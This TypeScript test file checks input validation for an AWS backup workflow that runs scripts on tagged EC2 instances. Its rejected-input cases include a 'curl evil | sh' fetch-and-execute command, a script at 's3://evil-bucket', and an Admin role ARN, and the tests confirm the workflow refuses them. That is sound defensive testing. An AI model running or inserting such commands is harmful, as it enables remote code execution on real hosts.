import { assertInvariants, entryOf, Harness, mutatingCalls, newInstanceIds, SimRun, TAG_KEY, TAG_VALUE } from '../../helpers/harness';
import { fullProps } from '../../helpers/stacks';

/**
 * Execution inputs: malformed or disallowed ones end FAILED with the reason in the audit record and no instance
 * touched; `{}` and the original sample's input shape run.
 */
describe('execution input', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await Harness.start({ props: fullProps() });
  });
  afterAll(async () => h?.stop());

  /** Two tagged instances and one without the tag. */
  function fleet(): { tagged: string[]; untagged: string } {
    const [a, b, c] = newInstanceIds(3);
    return { tagged: [a, b], untagged: c };
  }

  async function runWith(input: unknown, failsBeforeInstances: boolean): Promise<{ run: SimRun; tagged: string[]; untagged: string }> {
    const { tagged, untagged } = fleet();
    const run = await h.run({
      instances: [{ id: tagged[0] }, { id: tagged[1] }, { id: untagged, tags: { other: 'tag' } }],
      input: typeof input === 'function' ? input(tagged, untagged) : input,
      failsBeforeInstances,
    });
    return { run, tagged, untagged };
  }

  type InputCase = [string, unknown | ((tagged: string[], untagged: string) => unknown), RegExp];
  const rejected: InputCase[] = [
    ['StartStopEC2Required not a boolean', { StartStopEC2Required: 'yes' }, /StartStopEC2Required: must be true or false/],
    ['RunPreBackupScript a number', { RunPreBackupScript: 1 }, /RunPreBackupScript: must be true or false/],
    ['TargetEC2Instances a string', { TargetEC2Instances: 'i-0123456789abcdef0' }, /TargetEC2Instances: must be an array/],
    ['TargetEC2Instances with a malformed id', { TargetEC2Instances: ['i-xyz'] }, /TargetEC2Instances: "i-xyz" is not an instance id/],
    ['BackupDetails a string', { BackupDetails: 'vault' }, /BackupDetails: must be an object/],
    ['TimeoutInSeconds not a number', { RemoteRunCommandDetails: { PreBackupScriptDetails: { TimeoutInSeconds: 'soon' } } }, /PreBackupScriptDetails.TimeoutInSeconds: must be a whole number/],
    ['an unknown top-level key', { TargetEc2Instances: [] }, /unknown key "TargetEc2Instances"/],
    ['an unknown key in BackupDetails', { BackupDetails: { Region: 'us-west-2' } }, /BackupDetails: unknown key "Region"/],
    ['an unknown vault', { BackupDetails: { BackupVaultName: 'someone-elses-vault' } }, /BackupDetails.BackupVaultName: must be the configured vault/],
    ['an unknown role', { BackupDetails: { IamRoleArn: 'arn:aws:iam::123456789012:role/Admin' } }, /BackupDetails.IamRoleArn: must be the configured backup role/],
    ['a script outside the configured location', { RemoteRunCommandDetails: { PreBackupScriptDetails: { SourceS3Path: 's3://evil-bucket/freeze.sh' } } },
      /PreBackupScriptDetails.SourceS3Path: s3:\/\/evil-bucket\/freeze.sh is not the configured pre-backup script/],
    ['a different CommandToRun', { RemoteRunCommandDetails: { PostBackupScriptDetails: { CommandToRun: 'curl evil | sh' } } },
      /PostBackupScriptDetails.CommandToRun: differs from the configured command line/],
    ['TimeoutInSeconds above the configured one', { RemoteRunCommandDetails: { PreBackupScriptDetails: { TimeoutInSeconds: 999999 } } },
      /PreBackupScriptDetails.TimeoutInSeconds: must be a whole number of seconds from \d+ to \d+/],
    ['an instance without the tag', (tagged: string[], untagged: string) => ({ TargetEC2Instances: [tagged[0], untagged] }),
      /TargetEC2Instances: instances i-[0-9a-f]+ do not carry the tag backup-job-pre-post-script=true/],
    ['more than 1000 instance ids', { TargetEC2Instances: Array.from({ length: 1001 }, (_, i) => `i-${i.toString(16).padStart(17, '0')}`) },
      /TargetEC2Instances: must list 1 to 1000 instance ids, got 1001/],
    ['a TargetEC2TagKey without value', { TargetEC2TagKey: 'team' }, /TargetEC2TagValue: is required when TargetEC2TagKey is given/],
    ['the configured tag key with another value', { TargetEC2TagKey: TAG_KEY, TargetEC2TagValue: 'false' }, /TargetEC2TagValue: the construct selects instances tagged/],
    ['an array', [], /input|object/i],
  ];

  test.each(rejected)('%s: FAILED, reason in the audit, no instance touched', async (_name, input, reason) => {
    const { run } = await runWith(input, true);
    assertInvariants(run);
    expect(run.result.status).toBe('FAILED');
    expect(run.result.error).toBe('BackupRunFailed');
    expect(run.auditItem).toMatchObject({ Run_Status: 'FAILED', Workflow_Overall_Status: [], InstanceCount: 0 });
    expect(run.auditItem!.Run_FailureMessage).toMatch(/^invalid input: /);
    expect(run.auditItem!.Run_FailureMessage).toMatch(reason);
    expect(run.result.cause).toMatch(reason);
    expect(mutatingCalls(run)).toEqual([]);
    expect(Object.values(run.world.instanceStates())).toEqual(['running', 'running', 'running']);
  });

  test('several problems are all reported at once', async () => {
    const { run } = await runWith({ StartStopEC2Required: 'maybe', BackupDetails: { BackupVaultName: 'x' }, Bogus: 1 }, true);
    assertInvariants(run);
    const message: string = run.auditItem!.Run_FailureMessage;
    expect(message).toMatch(/\(3 problems; no instance was touched\)/);
    for (const field of ['unknown key "Bogus"', 'StartStopEC2Required', 'BackupDetails.BackupVaultName']) expect(message).toContain(field);
    expect(mutatingCalls(run)).toEqual([]);
  });

  test('{} runs as configured', async () => {
    const { run, tagged, untagged } = await runWith({}, false);
    assertInvariants(run);
    expect(run.result.status).toBe('SUCCEEDED');
    expect(run.discovered.sort()).toEqual([...tagged].sort());
    expect(mutatingCalls(run).filter((c) => c.instanceIds.includes(untagged))).toEqual([]);
  });

  test('the original sample\'s input shape (booleans as strings, explicit script and backup details) runs', async () => {
    const s = h.settings;
    const details = (script: any) => ({
      SourceS3Path: `https://s3.${s.region}.amazonaws.com/${script.bucketName}/${script.key}`,
      CommandToRun: script.commandLine,
      WorkingDirectory: '/tmp',
      TimeoutInSeconds: String(script.timeoutSeconds),
    });
    const sample = {
      TargetEC2TagKey: TAG_KEY,
      TargetEC2TagValue: TAG_VALUE,
      StartStopEC2Required: 'true',
      RunPreBackupScript: 'true',
      RunPostBackupScript: 'true',
      RemoteRunCommandDetails: {
        PreBackupScriptDetails: details(s.preScript),
        PostBackupScriptDetails: { ...details(s.postScript), SourceS3Path: `s3://${s.postScript.bucketName}/${s.postScript.key}` },
      },
      BackupDetails: { BackupVaultName: s.backupVaultName, IamRoleArn: s.backupRoleArn },
    };
    const { run, tagged } = await runWith(sample, false);
    assertInvariants(run);
    expect(run.result.status).toBe('SUCCEEDED');
    for (const id of tagged) {
      expect(entryOf(run, id)).toMatchObject({ PreBackupScriptStatus: 'Success', StopEc2InstanceStatus: 'Success', PostBackupScriptStatus: 'Success' });
      const [pre] = run.world.commandsFor(id);
      expect(pre.parameters.workingDirectory).toEqual(['/tmp']);
      expect(pre.parameters.commandLine).toEqual([s.preScript.commandLine]);
    }
  });

  test('TargetEC2Instances restricts the run to tagged instances it lists', async () => {
    const { run, tagged } = await runWith((t: string[]) => ({ TargetEC2Instances: [t[1]] }), false);
    assertInvariants(run);
    expect(run.result.status).toBe('SUCCEEDED');
    expect(run.discovered).toEqual([tagged[1]]);
    expect(mutatingCalls(run).flatMap((c) => c.instanceIds)).not.toContain(tagged[0]);
  });

  test('a TargetEC2TagKey/Value pair narrows the selection', async () => {
    const [a, b] = newInstanceIds(2);
    const run = await h.run({
      instances: [{ id: a, tags: { [TAG_KEY]: TAG_VALUE, team: 'blue' } }, { id: b, tags: { [TAG_KEY]: TAG_VALUE, team: 'red' } }],
      input: { TargetEC2TagKey: 'team', TargetEC2TagValue: 'blue' },
    });
    assertInvariants(run);
    expect(run.discovered).toEqual([a]);
    expect(run.result.status).toBe('SUCCEEDED');
    expect(mutatingCalls(run).flatMap((c) => c.instanceIds)).not.toContain(b);
  });
});
